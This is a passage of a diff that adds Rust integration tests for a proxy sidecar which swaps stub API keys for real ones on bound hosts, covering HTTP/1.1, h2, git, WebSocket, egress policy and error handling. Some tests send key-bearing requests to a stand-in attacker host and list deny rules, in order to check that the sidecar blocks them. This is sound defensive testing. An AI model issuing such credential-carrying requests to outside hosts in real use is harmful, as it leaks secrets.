@@ -1,0 +1,882 @@
+//! Real clients through the sidecar (SPEC §2.2): curl over HTTP/1.1 and h2, git smart HTTP, python3, WebSocket,
+//! plus the sidecar's answers for egress policy, unreachable upstreams, garbage, its own ports, and its admin
+//! port. See `support/` for the upstream stand-in and the sidecar launcher.
+
+mod support;
+
+use std::time::Duration;
+
+use futures_util::{SinkExt as _, StreamExt as _};
+use support::*;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+
+fn json_strings(v: &serde_json::Value, out: &mut Vec<String>) {
+    match v {
+        serde_json::Value::String(s) => out.push(s.clone()),
+        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
+        serde_json::Value::Object(o) => o.values().for_each(|x| json_strings(x, out)),
+        other => out.push(other.to_string()),
+    }
+}
+
+/// JSON log lines of the sidecar in which every `needle` occurs among the string values (at any depth).
+fn log_lines_with(sidecar: &Sidecar, needles: &[&str]) -> Vec<serde_json::Value> {
+    sidecar
+        .log_json()
+        .into_iter()
+        .filter(|v| {
+            let mut s = Vec::new();
+            json_strings(v, &mut s);
+            needles.iter().all(|n| s.iter().any(|x| x == n || x.contains(n)))
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_header_swap_http1_and_h2() {
+    let h = Harness::default_setup().await;
+    for (proto, want_version) in [("--http1.1", "1.1"), ("--http2", "2")] {
+        let out = h
+            .sidecar
+            .curl()
+            .arg(proto)
+            .arg("-H")
+            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+            .arg("-H")
+            .arg(format!("x-proto: {proto}"))
+            .arg("https://api.anthropic.com/echo")
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 200);
+        assert_eq!(out.http_version, want_version, "client-side protocol");
+        let out = h
+            .sidecar
+            .curl()
+            .arg(proto)
+            .arg("-H")
+            .arg(format!("Authorization: Bearer {GITHUB_STUB}"))
+            .arg("-H")
+            .arg(format!("x-proto: {proto}"))
+            .arg("https://api.github.com/echo")
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 200);
+    }
+    let reqs = h.upstream.requests_to("/echo");
+    assert_eq!(reqs.len(), 4, "{reqs:#?}");
+    for r in &reqs {
+        assert!(!r.contains(ANTHROPIC_STUB) && !r.contains(GITHUB_STUB), "{r:#?}");
+        match r.authority.as_deref() {
+            Some("api.anthropic.com") => assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_REAL)),
+            Some("api.github.com") => assert_eq!(
+                r.header("authorization"),
+                Some(format!("Bearer {GITHUB_REAL}").as_str())
+            ),
+            other => panic!("unexpected authority {other:?}"),
+        }
+        assert!(r.sni.is_some(), "upstream TLS must carry SNI");
+        assert_eq!(r.sni, r.authority, "upstream SNI names the target");
+    }
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn query_swap_only_where_allowed() {
+    let h = Harness::default_setup().await;
+    for proto in ["--http1.1", "--http2"] {
+        let out = h
+            .sidecar
+            .curl()
+            .arg(proto)
+            .arg(format!(
+                "https://api.anthropic.com/echo?key={QUERY_STUB}&other=1&p={proto}"
+            ))
+            .run()
+            .await
+            .ok();
+        assert_eq!(out.status, 200);
+    }
+    let reqs = h.upstream.requests_to("/echo");
+    assert_eq!(reqs.len(), 2);
+    for (r, proto) in reqs.iter().zip(["--http1.1", "--http2"]) {
+        assert_eq!(r.path, format!("/echo?key={QUERY_REAL}&other=1&p={proto}"));
+    }
+    // The audit path carries no query values: neither the stub nor the real value.
+    let stdout = h.sidecar.stdout();
+    assert!(!stdout.contains(QUERY_STUB), "stub in logs: {stdout}");
+    h.assert_logs_clean();
+}
+
+/// A JSON body of about `size` bytes that contains the body stub at the start, the end and every ~4000 bytes
+/// (so occurrences straddle any power-of-two chunk boundary sooner or later).
+fn json_body_with_stub(size: usize) -> Vec<u8> {
+    let mut s = format!("{{\"key\":\"{BODY_STUB}\",\"items\":[");
+    let mut i = 0;
+    while s.len() < size {
+        if i % 37 == 0 {
+            s.push_str(&format!("\"{BODY_STUB}\","));
+        } else {
+            s.push_str(&format!("\"item-{i:08}-abcdefghijklmnopqrstuvwxyz-0123456789\","));
+        }
+        i += 1;
+    }
+    s.push_str(&format!("\"{BODY_STUB}\"]}}"));
+    s.into_bytes()
+}
+
+fn replace_all(hay: &[u8], from: &str, to: &str) -> Vec<u8> {
+    String::from_utf8(hay.to_vec())
+        .expect("utf8")
+        .replace(from, to)
+        .into_bytes()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn body_swap_across_sizes_and_protocols() {
+    let h = Harness::default_setup().await;
+    for size in [100usize, 16 * 1024 + 7, 70_000, (1 << 20) + 3, 5 << 20] {
+        let body = json_body_with_stub(size);
+        let want = replace_all(&body, BODY_STUB, BODY_REAL);
+        assert_ne!(body.len(), want.len());
+        let file = h.sidecar.dir.path().join(format!("body-{size}.json"));
+        std::fs::write(&file, &body).expect("write body");
+        for proto in ["--http1.1", "--http2"] {
+            let out = h
+                .sidecar
+                .curl()
+                .args([proto, "-H", "content-type: application/json", "-H"])
+                .arg(format!("x-case: {size}{proto}"))
+                .arg("--data-binary")
+                .arg(format!("@{}", file.display()))
+                .arg("https://api.anthropic.com/upload")
+                .run()
+                .await
+                .ok();
+            assert_eq!(out.status, 200, "{size} {proto}: {}", out.body_text());
+            let rec = h
+                .upstream
+                .requests()
+                .into_iter()
+                .find(|r| r.header("x-case") == Some(&format!("{size}{proto}")))
+                .expect("upstream saw the upload");
+            assert_eq!(
+                rec.body_len,
+                Some(want.len() as u64),
+                "{size} {proto}: swapped body length"
+            );
+            assert_eq!(
+                rec.body_sha256.as_deref(),
+                Some(sha256_hex(&want).as_str()),
+                "{size} {proto}: swapped body bytes"
+            );
+            if let Some(cl) = rec.header("content-length") {
+                assert_eq!(cl, want.len().to_string(), "{size} {proto}: Content-Length fixed");
+            }
+            let v = out.json();
+            assert_eq!(v["len"], want.len() as u64);
+        }
+    }
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn compressed_request_body_with_stub_is_not_rewritten() {
+    let h = Harness::default_setup().await;
+    let mut body = vec![0x28, 0xb5, 0x2f, 0xfd];
+    body.extend_from_slice(format!("..{BODY_STUB}..").as_bytes());
+    body.extend((0..5000u32).map(|i| (i % 256) as u8));
+    let file = h.sidecar.dir.path().join("body.zst");
+    std::fs::write(&file, &body).expect("write");
+    let out = h
+        .sidecar
+        .curl()
+        .args(["-H", "content-encoding: zstd", "--data-binary"])
+        .arg(format!("@{}", file.display()))
+        .arg("https://api.anthropic.com/upload")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200);
+    let rec = h.upstream.only_request_to("/upload");
+    assert_eq!(
+        rec.body_sha256,
+        Some(sha256_hex(&body)),
+        "compressed bodies pass untouched"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn response_echoing_the_real_value_is_redacted() {
+    let h = Harness::default_setup().await;
+    for proto in ["--http1.1", "--http2"] {
+        let out = h
+            .sidecar
+            .curl()
+            .arg(proto)
+            .arg("-H")
+            .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+            .arg("https://api.anthropic.com/echo")
+            .run()
+            .await
+            .ok();
+        let text = out.body_text();
+        assert!(
+            !text.contains(ANTHROPIC_REAL),
+            "{proto}: real value reached the client: {text}"
+        );
+        assert!(text.contains(ANTHROPIC_STUB), "{proto}: redacted to the stub: {text}");
+        if let Some(cl) = out.header("content-length") {
+            assert_eq!(cl, out.body.len().to_string(), "{proto}: Content-Length matches");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stub_to_unbound_host_is_tunneled_unswapped_in_bound_hosts_mode() {
+    let h = Harness::default_setup().await;
+    // attacker.example has no secret: bound-hosts mode tunnels it untouched, so only the upstream's own
+    // certificate verifies.
+    let out = h
+        .sidecar
+        .curl()
+        .arg("--cacert")
+        .arg(h.upstream.ca_pem_path.to_string_lossy().to_string())
+        .arg("-H")
+        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+        .arg("https://attacker.example/echo")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200);
+    let rec = h.upstream.only_request_to("/echo");
+    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_STUB), "not swapped");
+    assert!(!h.upstream.saw(ANTHROPIC_REAL));
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bound_hosts_mode_shows_the_upstream_certificate_for_unbound_hosts() {
+    let h = Harness::default_setup().await;
+    // With only the sidecar CA trusted, the tunneled host's certificate must fail verification.
+    let out = h.sidecar.curl().arg("https://attacker.example/echo").run().await;
+    assert_eq!(
+        out.exit, 60,
+        "curl must reject the upstream's cert under the sidecar CA: {}",
+        out.stderr
+    );
+    let proxy = format!("127.0.0.1:{}", h.sidecar.proxy.port());
+    let s = run_prog(
+        "openssl",
+        &[
+            "s_client",
+            "-proxy",
+            &proxy,
+            "-connect",
+            "attacker.example:443",
+            "-servername",
+            "attacker.example",
+            "-showcerts",
+        ],
+        &[],
+        None,
+    )
+    .await;
+    assert!(
+        s.stdout.contains("LAP Test Upstream CA"),
+        "the client must see the upstream's real chain: {}",
+        s.stdout
+    );
+    // And a bound host is intercepted: the sidecar's CA issued its leaf.
+    let s = run_prog(
+        "openssl",
+        &[
+            "s_client",
+            "-proxy",
+            &proxy,
+            "-connect",
+            "api.anthropic.com:443",
+            "-servername",
+            "api.anthropic.com",
+            "-showcerts",
+        ],
+        &[],
+        None,
+    )
+    .await;
+    assert!(!s.stdout.contains("LAP Test Upstream CA"), "{}", s.stdout);
+    let leaf = first_pem_cert(&s.stdout).expect("leaf");
+    let leaf_path = h.sidecar.dir.path().join("bound-leaf.pem");
+    std::fs::write(&leaf_path, leaf).expect("write");
+    run_prog(
+        "openssl",
+        &[
+            "verify",
+            "-CAfile",
+            &h.sidecar.ca_path.to_string_lossy(),
+            &leaf_path.to_string_lossy(),
+        ],
+        &[],
+        None,
+    )
+    .await
+    .ok("bound host's leaf chains to the sidecar CA");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stub_to_unbound_host_is_blocked_when_intercepting_all() {
+    let h = Harness::start(Alpn::Both, |c| c.intercept = Some("all".into())).await;
+    let out = h
+        .sidecar
+        .curl()
+        .arg("-H")
+        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+        .arg("https://attacker.example/echo")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 403, "{}", out.body_text());
+    assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"));
+    let body = out.json();
+    assert!(
+        body.to_string().contains("ANTHROPIC_API_KEY"),
+        "the answer names the secret: {body}"
+    );
+    assert!(!body.to_string().contains(ANTHROPIC_REAL));
+    assert!(!h.upstream.saw(ANTHROPIC_REAL));
+    assert!(
+        h.upstream.requests_to("/echo").is_empty(),
+        "the request must not reach attacker.example: {:#?}",
+        h.upstream.requests()
+    );
+    assert!(
+        !log_lines_with(&h.sidecar, &["stub-exfiltration", "attacker.example"]).is_empty(),
+        "an audit event for the block: {}",
+        h.sidecar.stdout()
+    );
+    // A request without stubs to the same host still works (intercepted, sidecar CA).
+    let out = h.sidecar.curl().arg("https://attacker.example/echo").run().await.ok();
+    assert_eq!(out.status, 200);
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn audit_line_per_intercepted_request() {
+    let h = Harness::default_setup().await;
+    let out = h
+        .sidecar
+        .curl()
+        .arg("-H")
+        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+        .arg("https://api.anthropic.com/echo?key=QUERY_VALUE_NOT_LOGGED")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200);
+    let lines = log_lines_with(&h.sidecar, &["api.anthropic.com", "/echo", "ANTHROPIC_API_KEY"]);
+    assert_eq!(
+        lines.len(),
+        1,
+        "exactly one audit line naming host, path and injected secret: {}",
+        h.sidecar.stdout()
+    );
+    let line = lines[0].to_string();
+    assert!(line.contains("GET"), "{line}");
+    assert!(line.contains("200"), "{line}");
+    let stdout = h.sidecar.stdout();
+    assert!(
+        !stdout.contains("QUERY_VALUE_NOT_LOGGED"),
+        "query values logged: {stdout}"
+    );
+    assert!(!stdout.contains(ANTHROPIC_STUB), "stub logged: {stdout}");
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn git_clone_and_push_with_stub_in_url() {
+    let h = Harness::default_setup().await;
+    let work = tempfile::tempdir().expect("tempdir");
+    let env = h.sidecar.client_env();
+    let url = format!("https://x-access-token:{GITHUB_STUB}@github.com/owner/repo.git");
+    run_git(&["clone", "-q", &url, "clone"], work.path(), &env)
+        .await
+        .ok("git clone through the sidecar");
+    let repo = work.path().join("clone");
+    assert_eq!(
+        std::fs::read_to_string(repo.join("README.md")).expect("cloned README"),
+        "seed commit from the upstream stand-in\n"
+    );
+    std::fs::write(repo.join("pushed.txt"), "through the vault\n").expect("write");
+    run_git(&["add", "pushed.txt"], &repo, &env).await.ok("git add");
+    run_git(&["commit", "-q", "-m", "pushed via sidecar"], &repo, &env)
+        .await
+        .ok("git commit");
+    run_git(&["push", "-q", "origin", "main"], &repo, &env)
+        .await
+        .ok("git push through the sidecar");
+    assert!(
+        h.upstream.git_log().await.contains("pushed via sidecar"),
+        "the push landed upstream"
+    );
+    assert!(h
+        .upstream
+        .requests()
+        .iter()
+        .any(|r| r.path.contains("git-receive-pack")));
+    assert!(!h.upstream.saw(GITHUB_STUB), "stub reached github.com");
+    h.assert_logs_clean();
+}
+
+const PY_STRICT: &str = r#"
+import http.client, json, ssl, sys
+proxy_host, proxy_port, ca, stub = sys.argv[1:5]
+ctx = ssl.create_default_context(cafile=ca)
+ctx.verify_flags |= ssl.VERIFY_X509_STRICT | ssl.VERIFY_X509_PARTIAL_CHAIN
+c = http.client.HTTPSConnection(proxy_host, int(proxy_port), context=ctx, timeout=60)
+c.set_tunnel("api.github.com", 443)
+out = []
+for i in range(3):  # one kept-alive connection, three requests
+    c.request("POST", "/upload", body=b"x" * (1000 * (i + 1)),
+              headers={"Authorization": "Bearer " + stub, "Content-Type": "application/octet-stream"})
+    r = c.getresponse()
+    out.append({"status": r.status, "body": json.loads(r.read())})
+print(json.dumps(out))
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn python_strict_ssl_client_keepalive_swaps() {
+    let h = Harness::default_setup().await;
+    let out = run_python(
+        PY_STRICT,
+        &[
+            "127.0.0.1",
+            &h.sidecar.proxy.port().to_string(),
+            &h.sidecar.ca_path.to_string_lossy(),
+            GITHUB_STUB,
+        ],
+        &[],
+    )
+    .await
+    .ok("python3 strict client");
+    let v: serde_json::Value = serde_json::from_str(out.stdout.trim()).expect("json");
+    for (i, item) in v.as_array().expect("array").iter().enumerate() {
+        assert_eq!(item["status"], 200);
+        assert_eq!(item["body"]["len"], 1000 * (i as u64 + 1));
+    }
+    let reqs = h.upstream.requests_to("/upload");
+    assert_eq!(reqs.len(), 3);
+    for r in reqs {
+        assert_eq!(
+            r.header("authorization"),
+            Some(format!("Bearer {GITHUB_REAL}").as_str())
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sse_events_arrive_one_by_one() {
+    let h = Harness::default_setup().await;
+    let seen = curl_sse(
+        &h.sidecar,
+        "https://api.anthropic.com/sse?events=5&interval_ms=400",
+        &[],
+        Duration::from_secs(60),
+    )
+    .await;
+    let ns: Vec<u64> = seen.iter().map(|e| e.n).collect();
+    assert_eq!(ns, vec![1, 2, 3, 4, 5]);
+    assert!(
+        seen[0].recv_ms < seen[4].sent_ms,
+        "the first event must arrive before the last is sent: {seen:?}"
+    );
+    for w in seen.windows(2) {
+        assert!(w[0].recv_ms <= w[1].recv_ms);
+        assert!(
+            w[0].recv_ms < w[1].sent_ms,
+            "event {} held back until event {} was sent: {seen:?}",
+            w[0].n,
+            w[1].n
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn websocket_through_tunnel_with_swapped_handshake() {
+    use tokio_tungstenite::tungstenite::client::IntoClientRequest as _;
+    use tokio_tungstenite::tungstenite::Message;
+    let h = Harness::default_setup().await;
+    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
+    let mut req = "wss://api.anthropic.com/ws".into_client_request().expect("ws request");
+    req.headers_mut()
+        .insert("x-api-key", ANTHROPIC_STUB.parse().expect("header value"));
+    let (mut ws, resp) = within(
+        Duration::from_secs(20),
+        "WebSocket handshake through the sidecar",
+        tokio_tungstenite::client_async(req, tls),
+    )
+    .await
+    .expect("WebSocket handshake");
+    assert_eq!(resp.status(), 101);
+    for i in 0..5 {
+        let msg = format!("frame-{i}-{}", "z".repeat(i * 1000));
+        ws.send(Message::text(msg.clone())).await.expect("send");
+        let back = within(Duration::from_secs(10), "echo frame", ws.next())
+            .await
+            .expect("a frame")
+            .expect("frame ok");
+        assert_eq!(back.into_text().expect("text").as_str(), msg);
+    }
+    ws.send(Message::binary(vec![0u8, 1, 2, 255]))
+        .await
+        .expect("send binary");
+    let back = within(Duration::from_secs(10), "echo binary", ws.next())
+        .await
+        .expect("a frame")
+        .expect("frame ok");
+    assert_eq!(back.into_data().to_vec(), vec![0u8, 1, 2, 255]);
+    let _ = ws.close(None).await;
+    let rec = h.upstream.only_request_to("/ws");
+    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_REAL));
+    assert_eq!(
+        rec.header("upgrade").map(str::to_ascii_lowercase),
+        Some("websocket".into())
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn absolute_form_http_is_forwarded_without_swapping() {
+    let h = Harness::default_setup().await;
+    let out = h
+        .sidecar
+        .curl()
+        .args(["-H", "Proxy-Authorization: Basic Zm9vOmJhcg==", "-H"])
+        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+        .arg("http://api.anthropic.com/echo?x=1")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200, "{}", out.body_text());
+    let rec = h.upstream.only_request_to("/echo");
+    assert_eq!(rec.scheme, "http");
+    assert_eq!(rec.path, "/echo?x=1", "origin-form upstream");
+    assert_eq!(rec.header("x-api-key"), Some(ANTHROPIC_STUB), "no swap over cleartext");
+    assert!(
+        rec.header("proxy-authorization").is_none(),
+        "Proxy-Authorization is never forwarded"
+    );
+    assert!(!h.upstream.saw(ANTHROPIC_REAL));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_deny_is_403_egress_policy() {
+    let h = Harness::start(Alpn::Both, |c| {
+        c.egress_deny = vec!["attacker.example".into(), "*.evil.example".into()];
+    })
+    .await;
+    for target in ["attacker.example:443", "deep.sub.evil.example:443"] {
+        let (_s, reply) = connect_raw(h.sidecar.proxy, target).await;
+        assert_eq!(reply.status, 403, "CONNECT {target}: {}", reply.head);
+        assert_eq!(
+            reply.header("x-vault-blocked"),
+            Some("egress-policy"),
+            "CONNECT {target}: {}",
+            reply.head
+        );
+    }
+    let out = h.sidecar.curl().arg("http://attacker.example/echo").run().await.ok();
+    assert_eq!(out.status, 403);
+    assert_eq!(out.header("x-vault-blocked"), Some("egress-policy"));
+    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
+    // Allowed hosts still work.
+    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
+    assert_eq!(out.status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_allow_list_admits_bound_hosts_only_plus_listed() {
+    let h = Harness::start(Alpn::Both, |c| {
+        c.egress_allow = vec!["api.github.com".into()];
+    })
+    .await;
+    let (_s, reply) = connect_raw(h.sidecar.proxy, "attacker.example:443").await;
+    assert_eq!(reply.status, 403, "{}", reply.head);
+    assert_eq!(reply.header("x-vault-blocked"), Some("egress-policy"));
+    // Bound hosts are added to the allow list automatically.
+    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
+    assert_eq!(out.status, 200);
+}
+
+/// CONNECT (or intercepted request) answered with an error: returns the final error response whichever
+/// leg produced it.
+async fn error_answer(sidecar: &Sidecar, host: &str) -> RawResponse {
+    let (s, reply) = connect_raw(sidecar.proxy, &format!("{host}:443")).await;
+    if reply.status != 200 {
+        return reply;
+    }
+    let tls = tls_over(s, host, &sidecar.ca_path, &["http/1.1"])
+        .await
+        .expect("TLS with the sidecar");
+    let mut conn = tokio::io::BufReader::new(tls);
+    conn.get_mut()
+        .write_all(format!("GET /echo HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes())
+        .await
+        .expect("write");
+    within(Duration::from_secs(40), "error answer", read_response(&mut conn, false))
+        .await
+        .expect("an HTTP answer, not a silent close")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unreachable_upstream_is_502_with_kind_and_json() {
+    let upstream = Upstream::start(UpstreamOptions {
+        alpn: Alpn::Both,
+        git_token: None,
+    })
+    .await;
+    let dead = free_port();
+    let mut cfg = SidecarConfig::standard(&upstream);
+    for (k, v) in cfg.resolve.iter_mut() {
+        if k == "api.anthropic.com:443" {
+            *v = dead.to_string();
+        }
+    }
+    let sidecar = Sidecar::start(cfg).await;
+    let resp = error_answer(&sidecar, "api.anthropic.com").await;
+    assert_eq!(resp.status, 502, "{}{}", resp.head, resp.body_text());
+    let kind = resp.header("x-vault-error").expect("X-Vault-Error header");
+    assert!(!kind.is_empty());
+    let body: serde_json::Value =
+        serde_json::from_slice(&resp.body).unwrap_or_else(|e| panic!("JSON body ({e}): {}", resp.body_text()));
+    assert!(
+        body.to_string().contains("api.anthropic.com"),
+        "the body names the host: {body}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn untrusted_upstream_certificate_is_502() {
+    let upstream = Upstream::start(UpstreamOptions {
+        alpn: Alpn::Both,
+        git_token: None,
+    })
+    .await;
+    let mut cfg = SidecarConfig::standard(&upstream);
+    cfg.upstream_ca_files.clear();
+    let sidecar = Sidecar::start(cfg).await;
+    let resp = error_answer(&sidecar, "api.anthropic.com").await;
+    assert_eq!(resp.status, 502, "{}{}", resp.head, resp.body_text());
+    assert!(resp.header("x-vault-error").is_some(), "{}", resp.head);
+    assert!(resp.body_text().contains("api.anthropic.com"), "{}", resp.body_text());
+    assert!(
+        upstream.requests().is_empty(),
+        "no request over an unverified connection"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn connect_to_own_ports_is_refused() {
+    let h = Harness::default_setup().await;
+    for target in [
+        format!("127.0.0.1:{}", h.sidecar.admin.port()),
+        format!("127.0.0.1:{}", h.sidecar.proxy.port()),
+        format!("localhost:{}", h.sidecar.admin.port()),
+    ] {
+        let (_s, reply) = connect_raw(h.sidecar.proxy, &target).await;
+        assert!(
+            (400..500).contains(&reply.status),
+            "CONNECT {target} must be refused, got: {}",
+            reply.head
+        );
+    }
+    // Absolute-form to the admin port too.
+    let out = h
+        .sidecar
+        .curl()
+        .arg(format!("http://127.0.0.1:{}/ca.pem", h.sidecar.admin.port()))
+        .run()
+        .await;
+    assert!((400..500).contains(&out.status), "{out:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn garbage_closes_only_that_connection() {
+    let h = Harness::default_setup().await;
+    // A long-lived tunnel opened before the garbage must survive it.
+    let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
+    let mut kept = tokio::io::BufReader::new(tls);
+
+    for garbage in [
+        &b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage-tls-to-a-plain-port\r\n\r\n"[..],
+        &b"NOT HTTP AT ALL \x00\x01\x02\xff\r\n\r\n"[..],
+        &b"GET\r\n\r\n"[..],
+    ] {
+        let mut s = tokio::net::TcpStream::connect(h.sidecar.proxy).await.expect("connect");
+        s.write_all(garbage).await.expect("write garbage");
+        let mut buf = Vec::new();
+        let r = within(
+            Duration::from_secs(15),
+            "the sidecar closes a garbage connection",
+            s.read_to_end(&mut buf),
+        )
+        .await;
+        let text = String::from_utf8_lossy(&buf);
+        assert!(
+            r.is_err() || buf.is_empty() || text.starts_with("HTTP/1.1 400") || text.starts_with("HTTP/1.0 400"),
+            "garbage answered with: {text:?}"
+        );
+    }
+    // Garbage inside an intercepted TLS tunnel.
+    let (mut s, reply) = connect_raw(h.sidecar.proxy, "api.anthropic.com:443").await;
+    assert_eq!(reply.status, 200);
+    s.get_mut()
+        .write_all(b"this is not a TLS client hello\r\n\r\n")
+        .await
+        .expect("write");
+    let mut buf = Vec::new();
+    let _ = within(
+        Duration::from_secs(15),
+        "tunnel garbage closes",
+        s.read_to_end(&mut buf),
+    )
+    .await;
+
+    // Everything else is unaffected.
+    kept.get_mut()
+        .write_all(b"GET /echo HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
+        .await
+        .expect("write");
+    let resp = within(Duration::from_secs(20), "kept tunnel", read_response(&mut kept, false))
+        .await
+        .expect("response on the earlier tunnel");
+    assert_eq!(resp.status, 200);
+    let out = h.sidecar.curl().arg("https://api.anthropic.com/echo").run().await.ok();
+    assert_eq!(out.status, 200);
+    assert_eq!(h.sidecar.admin_get("/healthz").await.status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn admin_endpoints() {
+    let h = Harness::default_setup().await;
+    assert_eq!(h.sidecar.admin_get("/healthz").await.status, 200);
+    assert_eq!(h.sidecar.admin_get("/readyz").await.status, 200);
+    let ca = h.sidecar.admin_get("/ca.pem").await;
+    assert_eq!(ca.status, 200);
+    let file = h.sidecar.ca_pem();
+    assert!(file.starts_with("-----BEGIN CERTIFICATE-----"), "{file}");
+    assert_eq!(ca.body_text(), file, "/ca.pem serves the file written to ca_cert_path");
+    let mode = std::fs::metadata(&h.sidecar.ca_path)
+        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
+        .expect("stat CA");
+    assert_eq!(mode, 0o644, "CA certificate written 0644");
+    assert!(!file.contains("PRIVATE KEY"));
+    // Metrics count an injection by secret name after one swapped request.
+    h.sidecar
+        .curl()
+        .arg("-H")
+        .arg(format!("x-api-key: {ANTHROPIC_STUB}"))
+        .arg("https://api.anthropic.com/echo")
+        .run()
+        .await
+        .ok();
+    let m = h.sidecar.admin_get("/metrics").await;
+    assert_eq!(m.status, 200);
+    assert!(m.body_text().contains("ANTHROPIC_API_KEY"), "{}", m.body_text());
+    let i = h.sidecar.admin_get("/interceptions").await;
+    assert_eq!(i.status, 200);
+    let v: serde_json::Value = serde_json::from_slice(&i.body).expect("interceptions JSON");
+    assert!(v.to_string().contains("api.anthropic.com"), "{v}");
+    assert!(!v.to_string().contains(ANTHROPIC_REAL));
+    assert!(!v.to_string().contains(ANTHROPIC_STUB));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn check_subcommand_reports_every_bad_key() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let bad = dir.path().join("bad.toml");
+    std::fs::write(
+        &bad,
+        r#"
+listen = "127.0.0.1:1"
+intercept = "sometimes"
+
+[[secrets]]
+name = "9BAD NAME"
+stub = "lapstub-x"
+value = "real-x"
+hosts = ["api.anthropic.com"]
+"#,
+    )
+    .expect("write bad config");
+    let out = run_sidecar_cmd(&["check", "--config", &bad.to_string_lossy()]).await;
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(out.status.code(), Some(2), "{text}");
+    assert!(text.contains("intercept"), "names the key `intercept`: {text}");
+    assert!(text.contains("name"), "names the secret's `name`: {text}");
+    assert!(!text.contains("real-x"), "never prints a value: {text}");
+
+    // Missing required `hosts`.
+    std::fs::write(&bad, "[[secrets]]\nname = \"K\"\nstub = \"lapstub-k\"\nvalue = \"v\"\n").expect("write");
+    let out = run_sidecar_cmd(&["check", "--config", &bad.to_string_lossy()]).await;
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(out.status.code(), Some(2), "{text}");
+    assert!(text.contains("hosts"), "{text}");
+
+    // Starting with a bad config also exits 2 and never starts.
+    let out = run_sidecar_cmd(&["--config", &bad.to_string_lossy()]).await;
+    assert_eq!(out.status.code(), Some(2));
+
+    // A good config passes.
+    let good = dir.path().join("good.toml");
+    std::fs::write(
+        &good,
+        "listen = \"127.0.0.1:14322\"\n[[secrets]]\nname = \"K\"\nstub = \"lapstub-k\"\nvalue = \"v\"\nhosts = [\"api.anthropic.com\"]\n",
+    )
+    .expect("write");
+    let out = run_sidecar_cmd(&["check", "--config", &good.to_string_lossy()]).await;
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+async fn download_bounded(bytes: u64, max_hwm_mib: u64) {
+    let h = Harness::default_setup().await;
+    let script = format!(
+        "curl -sS --fail --noproxy '' --max-time 600 --proxy {} --cacert {} \
+         'https://api.anthropic.com/big?bytes={bytes}' | sha256sum",
+        h.sidecar.proxy_url(),
+        h.sidecar.ca_path.display()
+    );
+    let out = run_prog("bash", &["-o", "pipefail", "-c", &script], &[], None)
+        .await
+        .ok("streaming download");
+    let got = out.stdout.split_whitespace().next().unwrap_or("").to_string();
